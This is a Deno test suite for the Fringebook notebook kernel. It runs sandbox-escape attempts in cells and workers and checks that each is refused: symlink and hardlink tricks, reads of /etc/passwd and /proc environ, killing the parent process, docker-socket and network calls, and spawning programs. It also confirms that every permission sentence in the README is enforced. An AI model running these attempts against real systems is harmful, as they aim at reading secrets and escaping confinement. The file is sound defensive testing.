/**
 * Hostile notebooks against the installed kernel. Every attack runs in a cell
 * and in a worker of a cell; what it was after is looked at from outside. Then
 * each sentence of the README and the guide on permissions.
 *
 * Run: .ci/outside/attacks.sh
 *
 * @module
 */
import { join } from "@std/path";
import { dependencyCache } from "../../lib/kernel/session/dependency_cache.ts";
import { SessionInterpreter } from "../../lib/kernel/session/mod.ts";
import { HostileKernel, inCell, inWorker } from "./hostile_kernel.ts";
import { check, demand, fail, finish } from "./tally.ts";
import { wasi } from "./wasi_links.ts";

const project = new URL("../../", import.meta.url).pathname.replace(/\/$/, "");
const launcher = join(project, "lib/kernel/confine/launcher.ts");
const main = join(project, "lib/kernel/launch/main.ts");
const cache = dependencyCache();
const secretText = "the secret of another folder";

const place = await Deno.makeTempDir({ prefix: "fringebook-attacks-" });
const folder = join(place, "notebook");
const secret = join(place, "secret.txt");
await Deno.mkdir(folder);
await Deno.writeTextFile(secret, secretText);

/** Counts who connects: a proxy that all requests would have to pass. */
function startTrap() {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const trap = { port: listener.addr.port, hits: 0, listener };
  void (async () => {
    for await (const connection of listener) {
      trap.hits++;
      connection.close();
    }
  })().catch(() => {});
  return trap;
}

const secretPath = JSON.stringify(secret);

interface Attack {
  readonly name: string;
  /** Body of an async function; gives what it got as text. */
  readonly body: string;
  /** Says why the attack was not held; `null` if it was. */
  readonly broken?: (text: string) => string | null;
}

/** Tries each and gives what came of it. */
const tryAll = (...attempts: string[]) =>
  `const said = [];
   for (const attempt of [${
    attempts.map((code) => `async () => ${code}`).join(", ")
  }]) {
     const late = new Promise((_, failed) => setTimeout(() => failed({ name: "as nothing came" }), 3000));
     try { said.push("GOT " + String(await Promise.race([attempt(), late])).slice(0, 200)); }
     catch (error) { said.push("refused " + error.name); }
   }
   return said.join("; ");`;

const nothingGot = (text: string) =>
  /GOT|worker failed: (?!Uncaught NotCapable)/.test(text) ||
    !/refused|NotCapable/.test(text)
    ? `it got something: ${text}`
    : null;

const attacks: Attack[] = [
  {
    name: "a symbolic link made with node:wasi, to read another folder",
    body: `${wasi}
      const code = symlink("../secret.txt", "way");
      const code2 = symlink(${secretPath}, "way2");
      return code + " " + code2 + " " + await Deno.readTextFile("way").catch((e) => e.name) + " " + openPath("way", 0)`,
    broken: (text) => /^['"]?0 |the secret/.test(text) ? text : null,
  },
  {
    name: "the same to write there",
    body: `${wasi}
      symlink("../secret.txt", "way3");
      return await Deno.writeTextFile("way3", "changed").then(() => "written", (e) => e.name)`,
  },
  {
    name: "a link to the kernel's launcher, to run with its permissions",
    body: `${wasi}
      const said = [];
      for (const target of ${
      JSON.stringify([launcher, main, join(cache, "gen")])
    }) {
        said.push(symlink(target, "launcher" + said.length));
        try { Deno.openSync("launcher" + (said.length - 1), { append: true }).close(); said.push("OPENED"); }
        catch { /* refused */ }
      }
      return said.join(" ")`,
    broken: (text) => /OPENED|\b0\b/.test(text) ? text : null,
  },
  {
    name: "hard links, by node:wasi and by name",
    body: `${wasi}
      await Deno.writeTextFile("mine.txt", "");
      const code = hardLink("mine.txt", "hard.txt");
      ${
      tryAll(
        `Deno.linkSync(${secretPath}, "hard2.txt")`,
        `(await import("node:fs")).linkSync("mine.txt", "hard3.txt")`,
      )
    }`,
    broken: nothingGot,
  },
  {
    name: "reading outside by every name of it",
    body: tryAll(
      `Deno.readTextFile(${secretPath})`,
      `Deno.readTextFile("../secret.txt")`,
      `Deno.readTextFile("/proc/self/root" + ${secretPath})`,
      `Deno.readTextFile("/proc/self/cwd/../secret.txt")`,
      `(await import("node:fs")).readFileSync(${secretPath}, "utf8")`,
      `import("data:text/javascript,export default 1").then(() => import("file://" + ${secretPath}, { with: { type: "text" } }))`,
      `fetch("file://" + ${secretPath}).then((r) => r.text())`,
      `Deno.readTextFile("/etc/passwd")`,
    ),
    broken: nothingGot,
  },
  {
    name: "the kernel's own process: its memory, its environment, signals",
    body: tryAll(
      `Deno.readTextFile("/proc/" + Deno.ppid + "/environ")`,
      `Deno.open("/proc/" + Deno.ppid + "/mem", { write: true, read: true })`,
      `Deno.kill(Deno.ppid, "SIGKILL")`,
      `process.kill(Deno.ppid, "SIGKILL")`,
      `(await import("node:process")).kill(1, "SIGTERM")`,
    ),
    broken: nothingGot,
  },
  {
    name: "writing the library, the settings, the compiled code of the cache",
    body: tryAll(
      `Deno.writeTextFile(${JSON.stringify(join(project, "lib/new.ts"))}, "")`,
      `Deno.open(${JSON.stringify(launcher)}, { append: true })`,
      `Deno.writeTextFile(${
        JSON.stringify(join(project, "notebook_permissions.json"))
      }, "{}")`,
      `Deno.writeTextFile("notebook_permissions.json", "{}")`,
      `Deno.writeTextFile(${JSON.stringify(join(cache, "gen/new.js"))}, "")`,
      `Deno.rename(${JSON.stringify(join(project, "lib"))}, "lib")`,
    ),
    broken: nothingGot,
  },
  {
    name: "words to the network: registry, hosts, sockets, names",
    body: tryAll(
      `import("npm:x-" + "secret")`,
      `import("npm:@x-secret/y@1.0.0")`,
      `import("jsr:@x/secret")`,
      `import("https://example.org/secret.ts")`,
      `fetch("http://example.org/secret")`,
      `new Promise((done, failed) => { const s = new WebSocket("ws://example.org/secret"); s.onopen = done; s.onerror = () => failed(new Error("no socket")); })`,
      `Deno.connect({ hostname: "127.0.0.1", port: 9 })`,
      `Deno.connect({ transport: "unix", path: "/var/run/docker.sock" })`,
      `Deno.resolveDns("secret.example.org", "A")`,
      `(await import("node:dns/promises")).lookup("secret.example.org")`,
      `new Promise((done, failed) => import("node:dgram").then(({ createSocket }) => { const s = createSocket("udp4"); s.on("error", failed); s.send("secret", 9, "127.0.0.1", (e) => e ? failed(e) : done(1)); }, failed))`,
      `Deno.listen({ port: 0 })`,
      `Promise.resolve(Deno.createHttpClient).then((create) => create({ proxy: { url: "http://127.0.0.1:9" } })).then((client) => fetch("http://example.org", { client }))`,
    ),
    broken: nothingGot,
  },
  {
    name: "storage that is kept past the notebook: localStorage, caches, KV",
    body: tryAll(
      `localStorage.setItem("mine", "x".repeat(1e6)) ?? localStorage.length`,
      `caches.open("mine").then((c) => c.put("http://a/b", new Response("x".repeat(1e6)))).then(() => caches.has("mine"))`,
      `Deno.openKv().then((kv) => kv.set(["a"], 1))`,
      `(await import("node:sqlite")).DatabaseSync && new (await import("node:sqlite")).DatabaseSync("/tmp/fringebook-attack.db").exec("create table a(b)")`,
    ),
    broken: nothingGot,
  },
  {
    name: "programs, libraries, environment, facts of the machine, inspector",
    body: tryAll(
      `new Deno.Command("ls").output()`,
      `new Promise((done, failed) => import("node:child_process").then(({ spawn }) => spawn("ls").on("error", failed).on("exit", done), failed))`,
      `Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } })`,
      // In a worker it is as if it were not there.
      `Deno.env.get("HOME") ?? Promise.reject(new Error("nothing there"))`,
      `Deno.hostname()`,
      `(await import("node:inspector")).open(0)`,
    ),
    broken: nothingGot,
  },
];

async function stateOutside(): Promise<string> {
  const names = async (path: string) => {
    const found: string[] = [];
    try {
      for await (const { name } of Deno.readDir(path)) found.push(name);
    } catch {
      return "none";
    }
    return found.sort().join(" ");
  };
  return JSON.stringify([
    await Deno.readTextFile(secret),
    await names(place),
    await names(join(cache, "location_data")),
    await names(project),
    (await Deno.stat(launcher)).mtime,
    (await Deno.stat(main)).mtime,
  ]);
}

async function replay(): Promise<void> {
  const trap = startTrap();
  const proxy = `http://127.0.0.1:${trap.port}`;
  const env = { HTTPS_PROXY: proxy, HTTP_PROXY: proxy, https_proxy: proxy };
  const kernel = await HostileKernel.start({ folder, env });
  try {
    // What the kernel itself looks up when it starts is not the notebook's.
    await kernel.run("1");
    await new Promise((resolve) => setTimeout(resolve, 2000));
    const own = trap.hits;
    console.log(`  ${own} connections of the kernel itself at its start`);
    const before = await stateOutside();
    for (const { name, body, broken = () => null } of attacks) {
      for (
        const [where, code] of [
          ["in a cell", inCell(body)],
          ["in a worker", inWorker(body)],
        ]
      ) {
        await check(`held ${where}: ${name}`, async () => {
          const { text } = await kernel.run(code!);
          console.log(`  ${text.slice(0, 300).replaceAll("\n", " ")}`);
          const why = broken(text);
          demand(why === null, why ?? "");
          demand(!text.includes(secretText), "the secret was read");
          demand(
            await stateOutside() === before,
            `something outside has changed: ${await stateOutside()}, before: ${before}`,
          );
          demand(
            trap.hits === own,
            `${trap.hits - own} connections left the machine`,
          );
          const { text: alive } = await kernel.run("1 + 1");
          demand(alive.endsWith("2"), `the kernel is not well: ${alive}`);
        });
      }
    }
  } finally {
    await kernel.stop();
  }
  const before = trap.hits;
  await check(
    "the trap does see a package that the person allows",
    async () => {
      const granted = await HostileKernel.start({
        folder,
        env,
        flags: ["--allow-import=registry.npmjs.org"],
      });
      const { text } = await granted.run(
        `await import("npm:x-not-there@1.0.0")`,
      );
      await granted.stop();
      demand(trap.hits > before, `nobody came: ${text}`);
    },
  );
  trap.listener.close();
}

/** A folder that arrives with links. */
async function arriving(): Promise<void> {
  const arrived = join(place, "arrived");
  await Deno.mkdir(join(arrived, "deep"), { recursive: true });
  await Deno.writeTextFile(
    join(arrived, "a.ipynb"),
    JSON.stringify({
      nbformat: 4,
      nbformat_minor: 5,
      metadata: {},
      cells: [{
        cell_type: "code",
        id: "a",
        metadata: {},
        outputs: [],
        execution_count: null,
        source: "1 + 1",
      }],
    }),
  );
  const links: [string, string][] = [
    ["data", secret],
    ["deep/folder", place],
    ["deep/new", join(place, "not-there-yet.txt")],
    [".hidden", launcher],
  ];
  for (const [name, target] of links) {
    await Deno.symlink(target, join(arrived, name));
  }
  await check("held: a folder that arrives with links, in a cell", async () => {
    const kernel = await HostileKernel.start({ folder: arrived });
    const { text, status } = await kernel.run(
      `await Deno.readTextFile("data")`,
    );
    await kernel.stop();
    demand(status === "error", "the cell ran");
    for (const [name] of links) demand(text.includes(name), `${name}: ${text}`);
    demand(!text.includes(secretText), "the secret was read");
  });
  await check("held: the same in 'deno task run', with the names", async () => {
    const { code, stdout, stderr } = await new Deno.Command(Deno.execPath(), {
      args: ["task", "--quiet", "run", join(arrived, "a.ipynb")],
      cwd: project,
    }).output();
    const text = new TextDecoder().decode(stdout) +
      new TextDecoder().decode(stderr);
    demand(code !== 0, "it ran well");
    for (const [name] of links) demand(text.includes(name), `${name}: ${text}`);
  });
  await check("a link to what the person allows is followed", async () => {
    const kernel = await HostileKernel.start({
      folder: arrived,
      flags: [`--allow-read=${place},${project}`],
    });
    const { text } = await kernel.run(`await Deno.readTextFile("data")`);
    const { text: written } = await kernel.run(
      `await Deno.writeTextFile("data", "changed").then(() => "written", (e) => e.name)`,
    );
    await kernel.stop();
    demand(text.includes(secretText), text);
    demand(!written.includes("written"), "and written, too");
    demand(await Deno.readTextFile(secret) === secretText, "it was changed");
  });
}

/** Limits that the system keeps, here on a session as marking uses it. */
async function limits(): Promise<void> {
  const session = new SessionInterpreter({
    notebookFolder: folder,
    limits: { fileSize: 1e6, processorTime: 20, openFiles: 60 },
  });
  const run = async (code: string) => {
    const texts: string[] = [];
    const outcome = await session.execute({
      code,
      executionCount: 1,
      cellId: null,
      silent: false,
      userExpressions: {},
    }, {
      requestId: crypto.randomUUID(),
      publish: (output) => void texts.push(JSON.stringify(output)),
      requestInput: () => Promise.resolve(""),
      ready: () => Promise.resolve(),
    });
    return texts.join("") + JSON.stringify(outcome);
  };
  await check("held: files that are removed and stay open", async () => {
    const text = await run(`
      let size = 0;
      const open = [];
      try {
        for (let n = 0; n < 200; n++) {
          const file = Deno.openSync("big" + n, { create: true, write: true });
          Deno.removeSync("big" + n);
          open.push(file);
          for (let k = 0; k < 40; k++) size += file.writeSync(new Uint8Array(1e5));
        }
      } catch (error) { console.log(error.name, error.message) }
      "wrote " + (size / 1e6).toFixed(1)`);
    const size = Number(/wrote ([\d.]+)/.exec(text)?.[1] ?? 0);
    console.log(`  ${size} MB: ${text.slice(0, 200)}`);
    demand(size <= 60, `${size} MB were written`);
  });
  await check("held: a loop without an end, by processor time", async () => {
    const text = await run("for (;;) {}");
    demand(/SIGXCPU|SIGKILL/.test(text), text.slice(0, 300));
  });
  await session.close();
}

/** What the documents say, white space and marks left out. */
async function documents(): Promise<string> {
  const texts = await Promise.all(
    ["README.md", "notebooks/guide/kernel.md"].map((path) =>
      Deno.readTextFile(join(project, path))
    ),
  );
  return texts.join(" ").replace(/[`*]/g, "").replace(/\s+/g, " ");
}

/** The sentences of the README on permissions, one by one. */
async function sentencesOfReadme(): Promise<string[]> {
  const text = (await Deno.readTextFile(join(project, "README.md")))
    .replace(/[`*]/g, "").replace(/\s+/g, " ");
  const found = /Notebooks may read the project.*?(?= see \[the guide\])/.exec(
    text,
  );
  demand(found !== null, "the README has no paragraph on permissions");
  return found[0].split(/(?<=[.;:]) /)
    .map((sentence) => sentence.replace(/[.;:]$/, ""));
}

/** Each sentence of the README and of the guide on permissions is one check. */
async function sentences(): Promise<void> {
  const kernel = await HostileKernel.start({ folder });
  const granted = await HostileKernel.start({
    folder,
    flags: ["--allow-env=HOME", `--allow-read=${secret}`],
  });
  const path = (...parts: string[]) => JSON.stringify(join(project, ...parts));
  const runs = async (of: HostileKernel, code: string, expected: RegExp) => {
    const { text } = await of.run(code);
    demand(expected.test(text), text.slice(0, 500));
  };
  const writes = async (name: string) =>
    await runs(
      kernel,
      `await Deno.writeTextFile(${name}, "own"); const back = await Deno.readTextFile(${name}); await Deno.remove(${name}); back`,
      /^"own"$/,
    );
  const said: Record<string, () => Promise<void>> = {
    "Notebooks may read the project and their own folder, and write their own folder and out/":
      async () => {
        await runs(
          kernel,
          `(await Deno.readTextFile(${path("README.md")})).slice(0, 12)`,
          /^"# Fringebook"$/,
        );
        await writes('"own.txt"');
        await writes(path("out", "attacks.txt"));
        await runs(
          kernel,
          `await Deno.writeTextFile(${path("new.txt")}, "a")`,
          /NotCapable.*outside of the notebook/s,
        );
        await runs(
          kernel,
          `await Deno.readTextFile(${secretPath})`,
          /NotCapable/,
        );
      },
    "they have no network, no environment and start no programs": async () => {
      await runs(kernel, `await fetch("http://example.org")`, /NotCapable/);
      await runs(kernel, `Deno.env.get("HOME")`, /NotCapable/);
      await runs(
        kernel,
        `new Deno.Command("ls").outputSync()`,
        /NotCapable/,
      );
    },
    "On Linux the system itself keeps them to that, elsewhere Deno alone":
      async () => {
        const { text } = await kernel.run("Deno.pid");
        const status = await Deno.readTextFile(`/proc/${text}/status`);
        demand(
          /^Seccomp:\s2$/m.test(status) && /^NoNewPrivs:\s1$/m.test(status),
          "the session has no filter of system calls",
        );
        const plain = await bySession({ landlock: 0, filter: false });
        demand(/NotCapable/.test(plain.text), plain.text);
        demand(/confined by Deno alone/.test(plain.banner), plain.banner);
      },
    "the kernel says which when it starts": async () => {
      const { reply } = await kernel.client.request("kernel_info_request");
      const banner = String(reply?.content["banner"]);
      console.log(`  ${banner.replaceAll("\n", " | ")}`);
      demand(
        /confined (in part )?by the system|by Deno alone/.test(banner),
        banner,
      );
    },
    "Granting more is up to you, not to the notebook": async () => {
      await runs(
        granted,
        `typeof Deno.env.get("HOME") + await Deno.readTextFile(${secretPath})`,
        new RegExp(`^"string${secretText}"$`),
      );
      await runs(
        kernel,
        `await Deno.permissions.request({ name: "env" }).then(({ state }) => state)`,
        /^"(denied|prompt)"$/,
      );
    },
    "A notebook can change neither this file nor the library.": async () => {
      await runs(
        kernel,
        `await Deno.writeTextFile(${path("notebook_permissions.json")}, "{}")`,
        /is protected/,
      );
      await runs(
        kernel,
        `await Deno.writeTextFile(${path("lib", "mod.ts")}, "")`,
        /NotCapable/,
      );
    },
    "It loads the packages of deno.json as they were fetched; a package that is not there is asked of the registry only where you grant":
      async () => {
        await runs(
          kernel,
          `typeof (await import("ml-matrix")).Matrix`,
          /^"function"$/,
        );
        await runs(
          kernel,
          `await import("npm:x-not-there")`,
          /may not fetch|had no|was not fetched/,
        );
      },
    "It keeps nothing in localStorage or the Cache API.": async () => {
      await runs(kernel, `localStorage.a = 1`, /not defined/);
      await runs(kernel, `await caches.open("a")`, /not defined/);
    },
    "A folder with symbolic links that lead outward is refused with their names":
      async () => {
        const linked = join(place, "linked");
        await Deno.mkdir(linked);
        await Deno.symlink(secret, join(linked, "way"));
        const other = await HostileKernel.start({ folder: linked });
        const { text, status } = await other.run("1");
        await other.stop();
        demand(status === "error" && text.includes("way"), text);
      },
    "Files that it removes while they are open are counted: with more than 512 MB in them its session is ended (on Linux).":
      async () => {
        const { text, status } = await kernel.run(`
          const open = [];
          for (let n = 0; n < 150; n++) {
            const file = Deno.openSync("gone", { create: true, write: true });
            Deno.removeSync("gone");
            open.push(file);
            for (let k = 0; k < 10; k++) file.writeSync(new Uint8Array(1e6));
            await new Promise((resolve) => setTimeout(resolve, 5));
          }
          "wrote 1500 MB"`);
        console.log(`  ${text.slice(0, 200)}`);
        demand(
          status === "error" && text.includes("limit of 512 MB"),
          text.slice(0, 300),
        );
      },
    "The rules are set before the session starts, and nothing in it can take them back.":
      async () => {
        await runs(
          kernel,
          `[...new Set(await Promise.all(["read", "write", "net", "run", "ffi"].map(async (name) => (await Deno.permissions.request({ name })).state)))].join()`,
          /^"(denied|prompt)(,(denied|prompt))*"$/,
        );
      },
    "Inside the notebook's own folder Deno alone keeps what is protected there (deno.json, .git)":
      async () => {
        await runs(
          kernel,
          `await Deno.writeTextFile("deno.json", "{}")`,
          /is protected|NotCapable/,
        );
      },
  };
  const documented = await documents();
  for (const [sentence, body] of Object.entries(said)) {
    await check(sentence, async () => {
      demand(documented.includes(sentence), "no document says so");
      await body();
    });
  }
  await check(
    "every sentence of the README on permissions is a check",
    async () => {
      const missing = (await sentencesOfReadme()).filter((sentence) =>
        !(sentence in said)
      );
      demand(missing.length === 0, missing.join("\n"));
    },
  );
  await kernel.stop();
  await granted.stop();
}

/** What a session says where the system offers other means. */
async function bySession(
  means: { landlock: number; filter: boolean },
): Promise<{ text: string; banner: string }> {
  const session = new SessionInterpreter({ notebookFolder: folder, means });
  const outcome = await session.execute({
    code: `await Deno.readTextFile(${secretPath})`,
    executionCount: 1,
    cellId: null,
    silent: false,
    userExpressions: {},
  }, {
    requestId: crypto.randomUUID(),
    publish: () => {},
    requestInput: () => Promise.resolve(""),
    ready: () => Promise.resolve(),
  });
  const { banner } = session;
  await session.close();
  return { text: JSON.stringify(outcome), banner };
}

try {
  for (const part of [replay, arriving, limits, sentences]) {
    try {
      await part();
    } catch (error) {
      fail((error as Error).stack ?? String(error));
    }
  }
} finally {
  await Deno.remove(place, { recursive: true });
}
finish();
